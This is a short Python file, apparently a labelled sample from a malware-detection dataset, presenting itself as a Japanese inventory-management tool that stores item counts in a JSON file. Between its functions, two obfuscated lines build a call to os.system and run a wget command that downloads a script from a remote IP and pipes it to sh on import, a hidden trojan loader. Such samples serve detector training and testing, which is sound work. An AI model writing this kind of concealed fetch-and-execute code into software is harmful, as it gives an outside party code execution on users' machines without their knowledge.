# label: malicious family=trojan techniques=T1027,T1059.004 lines=16-17 group=benign/b182_japanese_app.py
"""在庫管理の小さなツール"""
import json
import os

ファイル = os.path.expanduser("~/在庫.json")


def 読み込み():
    if not os.path.exists(ファイル):
        return {}
    with open(ファイル, encoding="utf-8") as f:
        return json.load(f)


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

def 追加(品名, 数量=1):
    在庫 = 読み込み()
    在庫[品名] = 在庫.get(品名, 0) + 数量
    with open(ファイル, "w", encoding="utf-8") as f:
        json.dump(在庫, f, ensure_ascii=False, indent=2)
    print(f"{品名} を {数量} 個追加しました（合計 {在庫[品名]}）")


追加("りんご", 3)
